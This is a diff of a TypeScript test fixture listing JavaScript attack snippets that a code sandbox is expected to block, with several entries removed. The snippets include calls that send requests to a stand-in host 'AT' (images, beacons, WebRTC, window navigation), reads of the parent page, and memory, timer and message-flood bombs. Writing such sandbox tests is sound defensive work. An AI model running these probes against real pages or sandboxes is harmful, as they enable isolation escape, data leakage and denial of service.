@@ -60,12 +60,9 @@ export const attacks: readonly Attack[] = [
   { name: 'OPFS', code: `await navigator.storage.getDirectory()`, says: /navigator/ },
   { name: 'the page around', code: `parent.document.body.innerHTML`, says: /parent/ },
   { name: 'the window above', code: `top.location = 'http://AT/top'`, says: /top/ },
-  { name: 'who opened it', code: `opener.location = 'http://AT/opener'`, says: /opener/ },
   { name: 'its own address', code: `location = 'http://AT/self'; location.href = 'http://AT/self'; location.assign('http://AT/self')` },
-  { name: 'its own address, through the global', code: `self.location.replace('http://AT/self-replace')` },
   { name: 'a window', code: `open('http://AT/open'); window.open('http://AT/open')` },
   { name: 'an image', code: `new Image().src = 'http://AT/image'`, says: /Image/ },
-  { name: 'an element', code: `document.createElement('img').src = 'http://AT/element'`, says: /document/ },
   { name: 'a font', code: `await new FontFace('x', 'url(http://AT/font)').load()`, says: /FontFace/ },
   { name: 'sendBeacon', code: `navigator.sendBeacon('http://AT/beacon', 'x')`, says: /navigator/ },
   { name: 'SharedWorker', code: `new SharedWorker('http://AT/shared.js')`, says: /SharedWorker/ },
@@ -79,7 +76,6 @@ export const attacks: readonly Attack[] = [
     code: `new BroadcastChannel('page').postMessage('forged')`,
     says: /BroadcastChannel/,
   },
-  { name: 'locks of the page', code: `await navigator.locks.query()`, says: /navigator/ },
   {
     name: 'WebRTC',
     code: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:AT' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())`,
@@ -101,11 +97,6 @@ export const attacks: readonly Attack[] = [
     timeout: 700,
   },
   {
-    name: 'a storm of timers',
-    code: `const storm = () => { setTimeout(storm); setTimeout(storm); throw new Error('storm'); }; storm()`,
-    says: /storm/,
-  },
-  {
     name: 'errors without end',
     code: `const loop = () => { setTimeout(loop); Promise.reject(new Error('again')); }; setInterval(() => { throw new Error('more'); }); loop(); await new Promise(() => {})`,
     says: /did not end within/,
@@ -113,12 +104,6 @@ export const attacks: readonly Attack[] = [
   },
   { name: '4 GB at once', code: `new Uint8Array(4 * 2 ** 30).fill(1).length` },
   { name: 'memory without end', code: `const all = []; for (;;) all.push(new Float64Array(1e6).fill(all.length))`, timeout: 1500 },
-  { name: 'objects without end', code: `const all = []; for (;;) all.push({ at: all.length, text: 'x' + all.length })`, timeout: 1500 },
-  {
-    name: 'messages without end',
-    code: `for (;;) postMessage(new Array(1000).fill('flood'))`,
-    says: /postMessage/,
-  },
   {
     name: 'messages of a prototype without end',
     code: `const { port1 } = new MessageChannel(); for (;;) MessagePort.prototype.postMessage.call(port1, 'flood')`,
@@ -129,7 +114,6 @@ export const attacks: readonly Attack[] = [
     code: `for (let at = 0; at < 1e6; at++) console.log('line ' + at); 'written'`,
     says: /written.*line 0.*line 199.*more lines/s,
   },
-  { name: 'one line of 100 MB', code: `console.log('x'.repeat(1e8)); 'written'`, says: /^.{1,2500}$/s },
   { name: 'a result of 100 MB', code: `'x'.repeat(1e8)`, says: /^.{1000,30000}$/s },
   { name: 'a result of a million rows', code: `Array.from({ length: 1e6 }, (_, id) => ({ id }))`, says: /^.{1000,30000}$/s },
   { name: 'a result in a circle', code: `const a = { name: 'ring' }; a.self = a; a`, says: /ring.*circular/s },
@@ -199,9 +183,7 @@ export const attacks: readonly Attack[] = [
     code: `Function('return typeof document + typeof fetch + typeof parent')()`,
     says: /undefinedundefinedundefined/,
   },
-  { name: 'this of everything', code: `(function () { return typeof this.fetch + typeof this.indexedDB })()`, says: /undefinedundefined/ },
   { name: 'memory that is shared, for a clock', code: `new SharedArrayBuffer(8)`, says: /SharedArrayBuffer/ },
   { name: 'WebAssembly, for memory', code: `new WebAssembly.Memory({ initial: 65536 })`, says: /WebAssembly/ },
-  { name: 'a frame of its own', code: `document.body.append(document.createElement('iframe'))`, says: /document/ },
   { name: 'code that is no code', code: `}{ alert(1`, says: /SyntaxError|failed/ },
 ];
